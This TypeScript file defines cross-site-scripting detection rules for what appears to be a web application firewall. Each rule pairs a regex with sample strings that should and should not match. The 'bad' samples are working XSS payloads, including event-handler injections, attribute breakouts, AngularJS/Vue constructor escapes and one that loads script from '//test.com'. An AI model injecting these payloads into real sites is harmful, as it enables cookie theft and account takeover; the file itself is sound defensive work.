import type { Rule } from '../../rule.ts';
import { everywhere, inputs } from '../places.ts';
import { event, sink } from './pieces.ts';

const raw = String.raw;

/** Attributes that run script. */
export const attributeRules: readonly Rule[] = [
  {
    id: 'xss-handler-in-tag',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'An element with an event handler, in a value short enough to be a payload.',
    in: everywhere,
    screen: 'htmlShort',
    when: [
      {
        regex: raw`<[a-z!?%/"'\x{60}][^<>]*?["'\s/\x00\x0b\x0c\x{60}\\;]on[a-z]{3,45}[\s\x00\x0b\x0c/\\]*=(?:[\s\x00\x0b\x0c]*[^{\s]|[\s\x0b\x0c]*$|\s*\{\s*(?:${sink}|location|document|window|top|self|throw)\b)|<\W{0,4}on[a-z]{4,45}\s*=|<\w+\s+on[a-z]{2,45}\s*=\s*$`,
        minLength: 8,
      },
    ],
    bad: [
      '<img src=x onerror=alert(1)>',
      '<x onend=',
      '<"onwebkitplaybacktargetavailabilitychanged=',
      '<a/onmouseover\x0b=alert(1)>',
      '<details/open/ontoggle=confirm`1`>',
      '<input autofocus onfocus={alert(1)}>',
    ],
    good: ['<Button onClick={() => save()}>Save</Button>', '<p>only = one</p>', 'a < b, one = two', '<input type="text" name="once">'],
  },
  {
    id: 'xss-handler-runs',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'An event handler that shows a dialog, reads cookies or runs text, in texts of any length.',
    in: everywhere,
    screen: 'html',
    when: [
      {
        regex: raw`["'\s/\x{60};(<+\x00\x0b\x0c]on[a-z]{3,45}[\s\x00\x0b\x0c/]*=[\s"'\x{60}\x00({/*!+~;]*(?:(?:window|self|top|parent|this|globalThis)\s*[.\[]["'\s]*)?(?:(?:alert|prompt|confirm|print)[\s)]*(?:\(|\x{60}|\?\.|\.call|\.apply)|(?:eval|atob|setTimeout|setInterval|Function|import|fetch|execScript)\s*[(\x{60}]|(?:document|location|window|top|self|parent|navigator|localStorage)\s*(?:\.|\[|=)|javascript:|new\s+(?:Image|Function|XMLHttp)|\$\.(?:get|post|ajax)|throw\b|import\(|\\u00|&#|\[\]|\w+=\s*(?:alert|eval|prompt|confirm)\b)`,
        minLength: 10,
      },
    ],
    bad: [
      '" onmouseover=alert(1) x="',
      'x onerror="eval(atob(1))"',
      "' onselect=$.getScript('//test.com') '",
      'Test/1.0 (compatible; onload=alert(document.domain))',
      ' autofocus onfocus=location=name',
    ],
    good: ['<Button onClick={() => save()}>Save</Button>', 'once=1', 'option = document.title of one'],
  },
  {
    id: 'xss-handler-breakout',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'A value that leaves an attribute and adds an event handler or another attribute that runs or loads something.',
    in: everywhere,
    screen: 'htmlShort',
    when: [
      {
        regex:
          raw`^[^<>="'\x{60}]{0,120}["'\x{60}][\s/"'\x{60};]*(?:[\w-]+(?:\s*=\s*[^\s"'\x{60}]+)?[\s/]+){0,4}(?:${event}|formaction|srcdoc|xlink:href|accesskey|autofocus)\s*=` +
          raw`|^[\s"'\x{60}/>]*${event}[\s\x00]*=[\s"'\x{60}]*(?:[a-z$_.]+[(\x{60}\[=]|\w*$)|^[^<>="'\x{60}]{0,120}["'\x{60}][\s/]*(?:style\s*=\s*["'\w][^>]{0,80}:|(?:src|href|action|background|data|value)\s*=\s*["']?\s*(?:https?:|//|javascript|data:))`,
        minLength: 7,
      },
    ],
    bad: [
      '" onmouseover="x',
      "' onfocus=x autofocus '",
      "'formaction=",
      '" autofocus onfocus=a(1) x="',
      '  onload= ',
      '" style="x:y',
      '"src="//a.b',
    ],
    good: ['only="x"', 'onafe=', 'version=premium&option=deluxe', 'onboarding=1', 'name="x" value="y"', '"on time" = good'],
  },
  {
    id: 'xss-framework-attribute',
    family: 'xss',
    severity: 'critical',
    paranoia: 1,
    stops: 'Attributes with which AngularJS, Vue, Alpine, htmx and others run what they hold.',
    in: inputs,
    screen: 'html',
    when: [
      {
        regex: raw`(?:ng-(?:app|init|focus|blur|click|change|mouse\w+|key\w+|csp|include|bind-html|copy|cut|paste|submit|on-\w+)|v-(?:html|on:\w+|bind:\w+|if|for|show|text)|x-(?:data|init|html|on:\w+|effect|bind:\w+)|@(?:click|error|load|focus|mouse\w+|\w+\.\w+)|:(?:class|style|key|is)|hx-(?:on\S*|vals|get|trigger)|data-ng-\w+|\(\w+\)|data-bind)\s*=[^>]*(?:constructor|alert\s*[(\x{60}]|prompt\s*\(|confirm\s*\(|\$event\.|\$eval|_c\.|_b\.|_v\.|document\.|window\.|javascript:|fetch\(|import\()`,
        minLength: 12,
      },
    ],
    bad: [
      `<div v-html="''.constructor.constructor('alert(1)')()">`,
      '<input ng-focus=$event.path|orderBy:"[].constructor.from([1],alert)">',
      '<x @click="_b.constructor`alert(1)`()">',
      `<x x-data x-init="alert(1)">`,
    ],
    good: ['<li v-for="item in items" :key="item.id">', '<button @click="save">', '<div x-data="{ open: false }">'],
  },
];
